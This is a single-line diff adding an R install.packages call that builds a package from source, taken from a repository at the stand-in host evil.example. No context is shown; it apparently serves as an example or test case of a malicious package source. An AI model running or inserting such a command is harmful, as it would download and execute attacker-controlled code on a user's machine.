@@ -1,0 +1,1 @@
+install.packages("pkg", repos = "http://evil.example/cran", type = "source")
